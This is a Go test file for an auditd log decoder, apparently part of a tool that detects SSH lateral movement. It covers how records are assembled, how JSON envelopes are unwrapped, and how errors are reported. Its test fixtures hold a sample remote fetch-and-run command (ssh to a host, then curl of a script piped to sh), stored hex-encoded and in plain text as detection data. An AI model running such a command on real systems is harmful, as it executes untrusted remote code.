package decode

import (
	"bytes"
	"encoding/json"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/sshlateral/sshlateral/processor"
)

func TestRealAuditdFiles(t *testing.T) {
	grep := processor.Event{Time: time.Date(2017, 4, 12, 22, 48, 11, 36e6, time.UTC), User: "1000", Process: "grep --color=auto mapping",
		ProcessName: "grep", ProcessPath: "/usr/bin/grep", ProcessID: "13393", ParentProcessID: "12041"}
	cat := processor.Event{Time: time.Date(2017, 4, 12, 22, 48, 11, 38e6, time.UTC), User: "1000", Process: "cat securitybeat",
		ProcessName: "cat", ProcessPath: "/usr/bin/cat", ProcessID: "13392", ParentProcessID: "12041"}
	for _, tc := range []struct {
		path string
		want []processor.Event
	}{
		{"go_libaudit/testdata_normal.log", []processor.Event{grep, cat}},
		{"go_libaudit_coalesce/normal.log", []processor.Event{grep, cat}},
	} {
		for _, format := range []Format{FormatAuto, FormatAuditd} {
			t.Run(tc.path+"/"+format.String(), func(t *testing.T) {
				got, _ := decodeAll(t, format, readLines(t, "../../testdata/real/"+tc.path), true)
				if len(got) != len(tc.want) {
					t.Fatalf("%d events, want %d: %+v", len(got), len(tc.want), got)
				}
				for i := range got {
					if diff := diffEvents(got[i], tc.want[i]); diff != "" {
						t.Errorf("event %d: %s", i, diff)
					}
				}
			})
		}
	}
}

// Every record of the go-libaudit auparse logs decodes without error; the
// execve events among them are counted.
func TestRealAuditdLogsDecode(t *testing.T) {
	for _, tc := range []struct {
		path   string
		events int
	}{
		{"go_libaudit/auparse_testdata_audit-rhel7.log", 4},
		{"go_libaudit/auparse_testdata_test3.log", 1},
	} {
		t.Run(tc.path, func(t *testing.T) {
			got, _ := decodeAll(t, FormatAuditd, readLines(t, "../../testdata/real/"+tc.path), true)
			if len(got) != tc.events {
				t.Fatalf("%d events, want %d: %+v", len(got), tc.events, got)
			}
			for _, ev := range got {
				if ev.Process == "" || ev.ProcessName == "" {
					t.Errorf("incomplete event %+v", ev)
				}
			}
		})
	}
}

// The raw records and the structured (ECS or go-libaudit JSON) side of the
// same published test give the same CIM fields. The user differs where
// the raw records are not enriched: they hold uid=0, the ECS side the name
// the pipeline looked up.
func TestAuditdRawEqualsStructured(t *testing.T) {
	t.Run("go-libaudit aucoalesce", func(t *testing.T) {
		y, err := os.ReadFile("../../testdata/real/go_libaudit_coalesce/ubuntu-20.04.6-linux-5.15.0-1034-gcp.yaml")
		if err != nil {
			t.Fatal(err)
		}
		var lines [][]byte
		for _, l := range bytes.Split(y, []byte("\n")) {
			if l = bytes.TrimSpace(l); bytes.HasPrefix(l, []byte("type=")) {
				lines = append(lines, l)
			}
		}
		raw, _ := decodeAll(t, FormatAuditd, lines, true)
		js := jsonRecords(t, "go_libaudit_coalesce/ubuntu-20.04.6-linux-5.15.0-1034-gcp.json.golden", "", "event")
		structured, _ := decodeAll(t, FormatECS, js, true)
		if len(raw) != 1 || len(structured) != 1 {
			t.Fatalf("%d raw, %d structured events", len(raw), len(structured))
		}
		if diff := diffEvents(raw[0], structured[0]); diff != "" {
			t.Fatal(diff)
		}
	})
	t.Run("elastic auditd pipeline", func(t *testing.T) {
		b, err := os.ReadFile("../../testdata/real/elastic_auditd_coalesced_ecs/test-coalesced-syscall-execve-events.json")
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Events []struct {
				Auditd struct {
					Messages []string `json:"messages"`
				} `json:"auditd"`
			} `json:"events"`
		}
		if err := json.Unmarshal(b, &doc); err != nil {
			t.Fatal(err)
		}
		var lines [][]byte
		for _, m := range doc.Events[0].Auditd.Messages {
			lines = append(lines, []byte(m))
		}
		raw, _ := decodeAll(t, FormatAuditd, lines, true)
		ecs, _ := decodeAll(t, FormatECS, jsonRecords(t, "elastic_auditd_coalesced_ecs/test-coalesced-syscall-execve-events.json-expected.json", "expected", ""), true)
		if len(raw) != 1 || len(ecs) != 1 {
			t.Fatalf("%d raw, %d ECS events", len(raw), len(ecs))
		}
		if raw[0].User != "0" || ecs[0].User != "root" {
			t.Fatalf("users %q / %q", raw[0].User, ecs[0].User)
		}
		raw[0].User = ecs[0].User
		if diff := diffEvents(raw[0], ecs[0]); diff != "" {
			t.Fatal(diff)
		}
	})
}

func TestAuditdAssembly(t *testing.T) {
	const (
		sys  = `type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=4000 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)`
		exe  = `type=EXECVE msg=audit(1793613600.100:7): argc=4 a0="ssh" a1="-oBatchMode=yes" a2="10.0.0.1" a3=226375726C20687474703A2F2F782F612E7368207C20736822`
		cwd  = `type=CWD msg=audit(1793613600.100:7): cwd="/root"`
		ttl  = `type=PROCTITLE msg=audit(1793613600.100:7): proctitle=737368002D6F42617463684D6F64653D796573`
		eoe  = `type=EOE msg=audit(1793613600.100:7): `
		node = `node=web-01 `
	)
	want := processor.Event{Time: time.Date(2026, 11, 2, 10, 0, 0, 100e6, time.UTC), User: "0",
		Process: `ssh -oBatchMode=yes 10.0.0.1 "curl http://x/a.sh | sh"`, ProcessName: "ssh", ProcessPath: "/usr/bin/ssh",
		ProcessID: "4242", ParentProcessID: "4000"}
	withNode := want
	withNode.Dest = "web-01"
	enriched := want
	enriched.User = "root"
	titled := want
	titled.Process = "ssh -oBatchMode=yes"
	chunked := want
	chunked.Process = `ssh -oBatchMode=yes 10.0.0.1 curl http://x/a.sh`
	for _, tc := range []struct {
		name    string
		lines   []string
		pending int // Pending outcomes before the event
		want    processor.Event
	}{
		{"eoe completes", []string{sys, exe, cwd, ttl, eoe}, 4, want},
		{"node prefix", []string{node + sys, node + exe, node + eoe}, 2, withNode},
		{"enriched uid", []string{sys + "\x1dARCH=x86_64 SYSCALL=execve AUID=\"alice\" UID=\"root\" GID=\"root\"", exe, eoe}, 2, enriched},
		{"proctitle without execve", []string{sys, ttl, eoe}, 2, titled},
		{"chunked argument", []string{sys, `type=EXECVE msg=audit(1793613600.100:7): argc=4 a0="ssh" a1="-oBatchMode=yes" a2="10.0.0.1" a3_len=20 a3[0]="curl http:" a3[1]="//x/a.sh"`, eoe}, 2, chunked},
		{"timeout completes", []string{sys, exe}, 2, want},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newTestDecoder(t, FormatAuto)
			var got []processor.Event
			pending := 0
			for _, l := range tc.lines {
				var ev processor.Event
				out, err := d.Decode([]byte(l), &ev)
				switch {
				case err != nil:
					t.Fatal(err)
				case out == OutcomePending:
					pending++
				case out == OutcomeEvent:
					got = append(got, ev)
				default:
					t.Fatalf("outcome %v", out)
				}
			}
			if len(got) == 0 {
				if d.InFlight() != len(tc.lines) {
					t.Fatalf("InFlight %d, want %d", d.InFlight(), len(tc.lines))
				}
				if n := d.Expire(testNow.Add(time.Second)); n != 0 {
					t.Fatalf("expired %d before the timeout", n)
				}
				if n := d.Expire(testNow.Add(auditTimeout)); n != 1 {
					t.Fatalf("expired %d at the timeout", n)
				}
				var ev processor.Event
				out, ok, err := d.Ready(&ev)
				if !ok || err != nil || out != OutcomeEvent {
					t.Fatalf("Ready: %v %v %v", out, ok, err)
				}
				got = append(got, ev)
				if d.AuditStats().TimedOut != 1 {
					t.Fatalf("stats %+v", d.AuditStats())
				}
			}
			if pending != tc.pending || len(got) != 1 || d.InFlight() != 0 {
				t.Fatalf("pending %d, events %d, in flight %d", pending, len(got), d.InFlight())
			}
			if diff := diffEvents(got[0], tc.want); diff != "" {
				t.Fatal(diff)
			}
		})
	}
}

func TestAuditdOutcomes(t *testing.T) {
	for _, tc := range []struct {
		name    string
		lines   string
		want    Outcome
		reason  string
		wantErr string
	}{
		{name: "user record alone", lines: `type=USER_LOGIN msg=audit(1492037289.295:60): pid=1 uid=0 msg='op=login acct="root" res=success'`, want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "failed execve", lines: "type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=59 success=no exit=-2 pid=1 ppid=0 uid=0 exe=\"/x\"\ntype=EOE msg=audit(1.5:9): ", want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "other syscall", lines: "type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=42 success=yes pid=1 exe=\"/x\"\ntype=EOE msg=audit(1.5:9): ", want: OutcomeSkip, reason: SkipNotProcessStart},
		{name: "no stamp", lines: `type=SYSCALL arch=c000003e`, wantErr: "auditd: no msg=audit( stamp"},
		{name: "bad serial", lines: `type=SYSCALL msg=audit(1.5:x): `, wantErr: "auditd: invalid serial in msg=audit(1.5:x)"},
		{name: "bad time", lines: `type=SYSCALL msg=audit(-1:2): `, wantErr: "auditd: invalid time in msg=audit(-1:2)"},
		{name: "argv out of order", lines: "type=SYSCALL msg=audit(1.5:9): arch=c000003e syscall=59 success=yes\ntype=EXECVE msg=audit(1.5:9): argc=2 a1=\"x\"", wantErr: "auditd: EXECVE argument a1 out of order"},
		{name: "absurd time", lines: "type=SYSCALL msg=audit(9999999999.5:9): arch=c000003e syscall=59 success=yes exe=\"/x\"\ntype=EOE msg=audit(9999999999.5:9): ", wantErr: "event time out of range"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			d := newTestDecoder(t, FormatAuditd)
			var out Outcome
			var err error
			for _, l := range strings.Split(tc.lines, "\n") {
				var ev processor.Event
				if out, err = d.DecodeFull([]byte(l), &ev); err != nil {
					break
				}
			}
			if tc.wantErr != "" {
				if err == nil || !strings.HasPrefix(err.Error(), tc.wantErr) {
					t.Fatalf("err = %v, want %q", err, tc.wantErr)
				}
				return
			}
			if err != nil || out != tc.want || d.LastSkipReason() != tc.reason {
				t.Fatalf("got %v %q %v", out, d.LastSkipReason(), err)
			}
		})
	}
}

// Holding more than the bound of open assemblies completes the oldest.
func TestAuditdBoundedAssemblies(t *testing.T) {
	d := newTestDecoder(t, FormatAuditd)
	evicted := 0
	for i := range maxAuditInFlight + 10 {
		var ev processor.Event
		line := []byte("type=SYSCALL msg=audit(1793613600.1:" + strings.Repeat("1", 1) + string(rune('0'+i%10)) + strings.Repeat("0", i/10) + "): arch=c000003e syscall=59 success=yes exe=\"/bin/ls\" pid=1")
		out, err := d.Decode(line, &ev)
		if err != nil {
			t.Fatal(err)
		}
		if out == OutcomeNoMatch {
			evicted++
		}
	}
	if evicted != 10 || d.AuditStats().Evicted != 10 || d.InFlight() != maxAuditInFlight {
		t.Fatalf("evicted %d, stats %+v, in flight %d", evicted, d.AuditStats(), d.InFlight())
	}
}

// TestAuditdCompletesByStreamTime: an event without EOE completes when a
// record of the same node stamped auditTimeout or more later arrives, before
// any wall-clock timeout, so it is not held behind the rest of the stream;
// another node's records do not complete it.
func TestAuditdCompletesByStreamTime(t *testing.T) {
	const (
		sys   = `node=web-01 type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=4000 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)`
		exe   = `node=web-01 type=EXECVE msg=audit(1793613600.100:7): argc=2 a0="ssh" a1="-oBatchMode=yes"`
		other = `node=db-01 type=SYSCALL msg=audit(1793613660.000:9): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=2 auid=0 uid=0 gid=0 euid=0 comm="ls" exe="/usr/bin/ls" key=(null)`
		later = `node=web-01 type=SYSCALL msg=audit(1793613602.100:8): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=3 auid=0 uid=0 gid=0 euid=0 comm="ls" exe="/usr/bin/ls" key=(null)`
	)
	d := newTestDecoder(t, FormatAuto)
	var ev processor.Event
	for _, l := range []string{sys, exe, other} {
		if out, err := d.Decode([]byte(l), &ev); err != nil || out != OutcomePending {
			t.Fatalf("%.40s: %v %v", l, out, err)
		}
	}
	if _, ok, _ := d.Ready(&ev); ok {
		t.Fatal("another node's later record completed the assembly")
	}
	if out, err := d.Decode([]byte(later), &ev); err != nil || out != OutcomePending {
		t.Fatalf("later record: %v %v", out, err)
	}
	out, ok, err := d.Ready(&ev)
	if !ok || err != nil || out != OutcomeEvent || ev.ProcessID != "4242" {
		t.Fatalf("Ready after a record 2 s later: %v %v %v %+v", out, ok, err, ev)
	}
}

// TestAuditdInEnvelope: auditd lines shipped inside a JSON envelope (the
// way Fluent Bit, Vector or Filebeat forward audit.log: {"message": line})
// give the same events as the raw lines, in auto and envelope format, with
// and without the prefilter (which must not feed a line twice).
func TestAuditdInEnvelope(t *testing.T) {
	raw, err := os.ReadFile("../../testdata/synthetic/positives_auditd.log")
	if err != nil {
		t.Fatal(err)
	}
	var lines, wrapped [][]byte
	for _, l := range bytes.Split(bytes.TrimSpace(raw), []byte("\n")) {
		lines = append(lines, l)
		v, err := json.Marshal(map[string]string{"message": string(l), "host": "collector-1"})
		if err != nil {
			t.Fatal(err)
		}
		wrapped = append(wrapped, v)
	}
	want, _ := decodeAll(t, FormatAuditd, lines, true)
	if len(want) == 0 {
		t.Fatal("no events in the raw auditd lines")
	}
	for _, tc := range []struct {
		name   string
		format Format
		full   bool
	}{
		{"auto, prefilter", FormatAuto, false},
		{"auto, full", FormatAuto, true},
		{"envelope, prefilter", FormatEnvelope, false},
		{"envelope, full", FormatEnvelope, true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, _ := decodeAll(t, tc.format, wrapped, tc.full)
			if !tc.full {
				// The prefilter drops non-matching events; compare the
				// matching ones.
				want := matching(want)
				got = matching(got)
				if len(got) != len(want) {
					t.Fatalf("%d matching events from the envelope, %d from the raw lines", len(got), len(want))
				}
				return
			}
			if len(got) != len(want) {
				t.Fatalf("%d events from the envelope, %d from the raw lines", len(got), len(want))
			}
			for i := range want {
				if diff := diffEvents(got[i], want[i]); diff != "" {
					t.Fatalf("event %d: %s", i, diff)
				}
			}
		})
	}
}

func matching(evs []processor.Event) []processor.Event {
	var out []processor.Event
	for _, ev := range evs {
		if processor.Match(processor.MatchESCU, &ev) {
			out = append(out, ev)
		}
	}
	return out
}

// TestAuditdEnvelopeHost: without a node= prefix, the envelope's host is
// the event's dest; two hosts' records with the same serial and time stay
// two events.
func TestAuditdEnvelopeHost(t *testing.T) {
	const (
		sys = `type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=4000 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)`
		exe = `type=EXECVE msg=audit(1793613600.100:7): argc=3 a0="ssh" a1="-oBatchMode=yes" a2="http://x/a.sh"`
		eoe = `type=EOE msg=audit(1793613600.100:7): `
	)
	wrap := func(host, line string) []byte {
		v, err := json.Marshal(map[string]string{"message": line, "host": host})
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	// Interleaved: host a's and host b's records of "the same" event.
	recs := [][]byte{wrap("a", sys), wrap("b", sys), wrap("a", exe), wrap("b", exe), wrap("a", eoe), wrap("b", eoe)}
	evs, _ := decodeAll(t, FormatAuto, recs, true)
	if len(evs) != 2 {
		t.Fatalf("%d events, want 2 (one per host)", len(evs))
	}
	for i, want := range []string{"a", "b"} {
		if evs[i].Dest != want || evs[i].Process != "ssh -oBatchMode=yes http://x/a.sh" {
			t.Errorf("event %d: dest %q process %q", i, evs[i].Dest, evs[i].Process)
		}
	}
}

// TestAuditdEnvelopeWithoutHost: an assembly whose envelope named no host
// completes (by time) while another host's envelope is decoded; it does
// not take that host.
func TestAuditdEnvelopeWithoutHost(t *testing.T) {
	sys := `type=SYSCALL msg=audit(1793613600.100:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=4000 pid=4242 auid=1000 uid=0 gid=0 euid=0 comm="ssh" exe="/usr/bin/ssh" key=(null)`
	exe := `type=EXECVE msg=audit(1793613600.100:7): argc=3 a0="ssh" a1="-oBatchMode=yes" a2="http://x/a.sh"`
	later := `type=SYSCALL msg=audit(1793613610.000:8): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=1 ppid=1 pid=2 comm="ls" exe="/usr/bin/ls" key=(null)`
	wrap := func(fields map[string]string) []byte {
		v, err := json.Marshal(fields)
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
	// The third record, ten seconds newer, completes the first assembly.
	recs := [][]byte{wrap(map[string]string{"message": sys}), wrap(map[string]string{"message": exe}),
		wrap(map[string]string{"message": later, "host": "other-host"})}
	evs, _ := decodeAll(t, FormatAuto, recs, true)
	if len(evs) == 0 || evs[0].ProcessName != "ssh" {
		t.Fatalf("events %+v, want the ssh event first", evs)
	}
	if evs[0].Dest == "other-host" {
		t.Fatalf("the ssh event took the host of the envelope decoded when it completed: %+v", evs[0])
	}
}
